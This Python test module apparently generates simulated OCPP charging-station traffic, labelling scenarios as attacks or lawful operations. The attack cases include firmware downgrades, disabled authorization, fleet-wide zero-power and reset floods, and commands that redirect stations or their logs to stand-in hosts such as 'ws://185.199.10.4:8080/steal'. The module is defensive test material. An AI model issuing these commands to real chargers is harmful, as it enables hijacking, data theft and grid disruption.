"""What a backend, or somebody in its place, tells stations to do."""
from .cases import ALL, BOTH, attack, lawful
from .session import Session


def fleet(scene, version, count=10):
    return [scene.station(f"SITE-{n:02}", version).connect() for n in range(count)]


def profile(version, limit, unit="A", purpose=None):
    schedule = {"chargingRateUnit": unit, "chargingSchedulePeriod": [
        {"startPeriod": 0, "limit": limit}]}
    if version == "1.6":
        return {"connectorId": 1, "csChargingProfiles": {
            "chargingProfileId": 7, "stackLevel": 0,
            "chargingProfilePurpose": purpose or "TxDefaultProfile",
            "chargingProfileKind": "Relative", "chargingSchedule": schedule}}
    return {"evseId": 1, "chargingProfile": {
        "id": 7, "stackLevel": 0, "chargingProfilePurpose": purpose or "TxDefaultProfile",
        "chargingProfileKind": "Relative", "chargingSchedule": [{"id": 1, **schedule}]}}


def setting(station, key, value, component=None, variable=None, status="Accepted"):
    if station.v2:
        station.command("SetVariables", {"setVariableData": [{
            "attributeValue": value, "component": {"name": component},
            "variable": {"name": variable or key}}]}, {"setVariableResult": [{
                "attributeStatus": status, "component": {"name": component},
                "variable": {"name": variable or key}}]})
    else:
        station.command("ChangeConfiguration", {"key": key, "value": value}, {"status": status})


def update(station, location, signed=False, version=None):
    scene = station.scene
    if station.v2:
        firmware = {"location": location, "retrieveDateTime": scene.time()}
        if signed:
            firmware |= {"signature": "c2lnbmF0dXJlLW9mLXRoZS1pbWFnZQ==",
                         "signingCertificate": signed}
        station.command("UpdateFirmware", {"requestId": 3, "firmware": firmware})
    elif signed:
        station.command("SignedUpdateFirmware", {"requestId": 3, "firmware": {
            "location": location, "retrieveDateTime": scene.time(),
            "signature": "c2lnbmF0dXJlLW9mLXRoZS1pbWFnZQ==", "signingCertificate": signed}})
    else:
        station.command("UpdateFirmware", {"location": location, "retrieveDate": scene.time()}, {})


def firmware_status(station, *statuses, signed=False):
    for status in statuses:
        station.scene.wait(20)
        if station.v2:
            station.call("FirmwareStatusNotification", {"status": status, "requestId": 3})
        elif signed:
            station.call("SignedFirmwareStatusNotification", {"status": status, "requestId": 3})
        else:
            station.call("FirmwareStatusNotification", {"status": status})


def restart(station, firmware):
    station.drop("reset")
    station.scene.wait(45)
    station.firmware = firmware
    station.handshake().boot("FirmwareUpdate").status("Available")


@attack("firmware-unsigned", BOTH)
def an_unsigned_update(scene, version):
    station = scene.station("UPD-1", version).connect()
    update(station, "http://fw.example.net/ww22-3.3.0.bin")
    firmware_status(station, "Downloading", "Downloaded", "Installing", "Installed")
    restart(station, "3.3.0")
    return station.name


@attack("firmware-downgrade", BOTH)
def back_to_an_old_version(scene, version):
    station = scene.station("UPD-2", version, firmware="v2.10.0-build77").connect()
    update(station, "https://fw.example.net/ww22.bin")
    firmware_status(station, "Downloading", "Downloaded", "Installing", "Installed")
    restart(station, "v2.9.3-build12")
    return station.name


@attack("firmware-downgrade", ("1.6",))
def old_firmware_out_of_nowhere(scene, version):
    station = scene.station("UPD-3", version, firmware="1.8.1").connect()
    scene.wait(300)
    restart(station, "1.6.0")
    return station.name


@attack("firmware-invalid-signature", BOTH)
def the_station_refuses_the_signature(scene, version):
    station = scene.station("UPD-4", version).connect()
    update(station, "https://fw.example.net/ww22.bin", signed="-----BEGIN CERTIFICATE-----\nMIIB\n"
           "-----END CERTIFICATE-----")
    firmware_status(station, "Downloading", "Downloaded", "InvalidSignature", signed=True)
    return station.name


@attack("firmware-signing-certificate-invalid", BOTH)
def the_station_refuses_the_certificate(scene, version):
    station = scene.station("UPD-5", version).connect()
    event = {"type": "InvalidFirmwareSigningCertificate", "timestamp": scene.time()}
    station.call("SecurityEventNotification", event)
    return station.name


@attack("firmware-signing-certificate-invalid", BOTH)
def the_answer_refuses_the_certificate(scene, version):
    station = scene.station("UPD-6", version).connect()
    location = "https://fw.example.net/ww22.bin"
    if station.v2:
        station.command("UpdateFirmware", {"requestId": 3, "firmware": {
            "location": location, "retrieveDateTime": scene.time(), "signature": "c2ln",
            "signingCertificate": "x"}}, {"status": "InvalidCertificate"})
    else:
        station.command("SignedUpdateFirmware", {"requestId": 3, "firmware": {
            "location": location, "retrieveDateTime": scene.time(), "signature": "c2ln",
            "signingCertificate": "x"}}, {"status": "InvalidCertificate"})
    return station.name


@attack("config-authorizationkey-cleartext", BOTH)
def a_new_password_in_clear(scene, version):
    station = scene.station("CFG-1", version).connect()
    setting(station, "AuthorizationKey", "4D7953656372657450617373776F7264", "SecurityCtrlr",
            "BasicAuthPassword")
    return station.name


@attack("config-security-downgrade", ("1.6",))
def the_profile_goes_down(scene, version):
    station = scene.station("CFG-2", version).connect()
    setting(station, "SecurityProfile", "0")
    return station.name


@attack("config-security-downgrade", ("2.0.1",))
def the_profile_of_the_slot_goes_down(scene, version):
    station = scene.station("CFG-2", version).connect()
    setting(station, "AllowSecurityProfileDowngrade", "true", "SecurityCtrlr")
    return station.name


@attack("config-heartbeat-disabled", BOTH)
def no_heartbeats_any_more(scene, version):
    station = scene.station("CFG-3", version).connect()
    setting(station, "HeartbeatInterval", "0" if version == "1.6" else "864000", "OCPPCommCtrlr")
    return station.name


@attack("config-authorization-weakened", ("1.6",))
def anybody_may_charge(scene, version):
    station = scene.station("CFG-4", version).connect()
    setting(station, "AllowOfflineTxForUnknownId", "true")
    return station.name


@attack("config-authorization-weakened", ("1.6",))
def no_authorization_of_remote_starts(scene, version):
    station = scene.station("CFG-5", version).connect()
    setting(station, "AuthorizeRemoteTxRequests", "false")
    setting(station, "LocalPreAuthorize", "true")
    return station.name


@attack("config-authorization-weakened", ("2.0.1", "2.1"))
def authorization_switched_off(scene, version):
    station = scene.station("CFG-6", version).connect()
    setting(station, "Enabled", "false", "AuthCtrlr")
    return station.name


@attack("config-authorization-weakened", ("2.0.1",))
def unknown_cards_offline(scene, version):
    station = scene.station("CFG-7", version).connect()
    setting(station, "OfflineTxForUnknownIdEnabled", "True", "AuthCtrlr")
    return station.name


@attack("config-network-profile-unknown-host", ("2.0.1", "2.1"))
def another_backend_is_set(scene, version):
    station = scene.station("CFG-8", version).connect()
    station.command("SetNetworkProfile", {"configurationSlot": 2, "connectionData": {
        "ocppVersion": "OCPP20", "ocppTransport": "JSON", "messageTimeout": 30,
        "ocppCsmsUrl": "ws://185.199.10.4:8080/steal", "securityProfile": 1,
        "ocppInterface": "Wired0"}})
    return station.name


@attack("config-network-profile-unknown-host", ("1.6",))
def another_backend_by_a_vendor_key(scene, version):
    station = scene.station("CFG-9", version).connect()
    setting(station, "CentralSystemURL", "ws://185.199.10.4:8080/steal")
    return station.name


@lawful(BOTH)
def ordinary_settings(scene, version):
    station = scene.station("CFG-10", version).connect()
    setting(station, "HeartbeatInterval", "240", "OCPPCommCtrlr")
    setting(station, "MeterValueSampleInterval", "60", "SampledDataCtrlr", "TxUpdatedInterval")


@attack("certificate-unknown-root-installed", BOTH)
def a_root_nobody_knows(scene, version):
    station = scene.station("CRT-1", version).connect()
    kind = "CentralSystemRootCertificate" if version == "1.6" else "CSMSRootCertificate"
    station.command("InstallCertificate", {"certificateType": kind, "certificate":
                    "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmg\n-----END CERTIFICATE-----\n"})
    return station.name


@attack("certificate-deleted", BOTH)
def a_root_is_removed(scene, version):
    station = scene.station("CRT-2", version).connect()
    station.command("DeleteCertificate", {"certificateHashData": {
        "hashAlgorithm": "SHA256", "issuerNameHash": "a" * 64, "issuerKeyHash": "b" * 64,
        "serialNumber": "01"}})
    return station.name


@attack("log-upload-unknown-host", BOTH)
def logs_go_elsewhere(scene, version):
    station = scene.station("LOG-1", version).connect()
    station.command("GetLog", {"logType": "SecurityLog", "requestId": 9, "log": {
        "remoteLocation": "ftp://203.0.113.77/drop/"}}, {"status": "Accepted", "filename": "x"})
    return station.name


@attack("log-upload-unknown-host", ("1.6",))
def diagnostics_go_elsewhere(scene, version):
    station = scene.station("LOG-2", version).connect()
    station.command("GetDiagnostics", {"location": "http://203.0.113.77/up"}, {"fileName": "d.zip"})
    return station.name


@attack("grid-mass-profile-zero", ALL)
def nobody_gets_power(scene, version):
    for station in fleet(scene, version):
        scene.wait(0.4)
        station.command("SetChargingProfile", profile(version, 0))


@attack("grid-mass-profile-zero", ("1.6",))
def nobody_gets_power_in_watts(scene, version):
    for station in fleet(scene, version, 14):
        scene.wait(1)
        station.command("SetChargingProfile", profile(version, 0.0, "W", "ChargePointMaxProfile"))


@attack("grid-mass-profile-max", BOTH)
def everybody_gets_all(scene, version):
    for station in fleet(scene, version):
        scene.wait(0.4)
        station.command("SetChargingProfile", profile(version, 125))


@attack("grid-mass-remote-stop", BOTH)
def all_sessions_are_stopped(scene, version):
    sessions = [Session(station, f"T-{n:04}").start()
                for n, station in enumerate(fleet(scene, version))]
    scene.wait(300)
    for session in sessions:
        scene.wait(0.5)
        if session.station.v2:
            session.station.command("RequestStopTransaction", {"transactionId": session.id})
        else:
            session.station.command("RemoteStopTransaction", {"transactionId": session.number})
        session.register_wh += 900
        session.stop(reason="Remote")


@attack("grid-mass-unavailable", BOTH)
def all_stations_out_of_service(scene, version):
    for station in fleet(scene, version):
        scene.wait(0.5)
        if station.v2:
            station.command("ChangeAvailability", {"operationalStatus": "Inoperative"})
        else:
            station.command("ChangeAvailability", {"connectorId": 0, "type": "Inoperative"})
        station.status("Unavailable")


@attack("grid-reset-flood", BOTH)
def all_stations_are_reset(scene, version):
    for station in fleet(scene, version):
        scene.wait(0.5)
        station.command("Reset", {"type": "Immediate" if station.v2 else "Hard"})
        station.drop("reset")


@attack("grid-reset-flood", BOTH)
def one_station_is_reset_again_and_again(scene, version):
    station = scene.station("RST-1", version).connect()
    for _ in range(12):
        station.command("Reset", {"type": "OnIdle" if station.v2 else "Soft"})
        station.drop("reset")
        scene.wait(15)
        station.handshake().boot("RemoteReset").status("Available")
    return station.name


@lawful(BOTH)
def load_is_balanced(scene, version):
    stations = fleet(scene, version, 8)
    sessions = [Session(station, f"T-{n}").start() for n, station in enumerate(stations)]
    for round_ in range(6):
        scene.wait(60)
        for n, session in enumerate(sessions):
            scene.wait(1.5)
            session.station.command("SetChargingProfile",
                                    profile(version, 12 + (n + round_) % 5, purpose="TxProfile"))
    for session in sessions:
        session.register_wh += 900
        session.stop(session.token)


@attack("privacy-pan", BOTH)
def a_card_number_in_data(scene, version):
    station = scene.station("PRV-1", version).connect()
    station.call("DataTransfer", {"vendorId": "com.payment", "messageId": "receipt",
                                  "data": '{"pan":"5500 0055 5555 5559","amount":1290}'},
                 {"status": "Accepted"})
    return station.name


@attack("privacy-email", BOTH)
def an_address_in_data(scene, version):
    station = scene.station("PRV-2", version).connect()
    station.call("DataTransfer", {"vendorId": "com.app", "data": "driver=jo.doe@mail.example.org"},
                 {"status": "Accepted"})
    return station.name


@attack("privacy-vin", BOTH)
def a_vehicle_as_a_token(scene, version):
    station = scene.station("PRV-3", version).connect()
    Session(station, "WVWZZZ1KZ6W000001", kind="Local").start().charge(3).stop("WVWZZZ1KZ6W000001")
    return station.name


@attack("privacy-mac", ALL)
def a_vehicle_address_as_a_token(scene, version):
    station = scene.station("PRV-4", version).connect()
    token = "D4:CA:6E:10:2F:9B" if station.v2 else "VID:D4CA6E102F9B"
    Session(station, token, kind="MacAddress").start().charge(3).stop(token)
    return station.name


@attack("privacy-customer-information", ("2.0.1", "2.1"))
def all_that_is_known_of_a_customer(scene, version):
    station = scene.station("PRV-5", version).connect()
    station.command("CustomerInformation", {"requestId": 5, "report": True, "clear": False,
                                            "customerIdentifier": "C-1029"})
    station.call("NotifyCustomerInformation", {
        "data": "name=Eva Muster; phone=+49 170 1234567", "seqNo": 0, "requestId": 5,
        "generatedAt": scene.time()})
    return station.name


@attack("datatransfer-tunnel", BOTH)
def a_tunnel_through_data(scene, version):
    station = scene.station("TUN-1", version).connect()
    for number in range(40):
        scene.wait(2)
        station.call("DataTransfer", {
            "vendorId": "com.example.diag", "messageId": f"{number}",
            "data": scene.random.randbytes(1500).hex()}, {"status": "Accepted", "data":
                    scene.random.randbytes(300).hex()})
    return station.name


@lawful(BOTH)
def vendor_data_now_and_then(scene, version):
    station = scene.station("VND-1", version).connect()
    for number in range(6):
        scene.wait(300)
        station.call("DataTransfer", {"vendorId": "com.wallwerk", "messageId": "display",
                                      "data": f"temperature={20 + number};fan=off"},
                     {"status": "Accepted"})
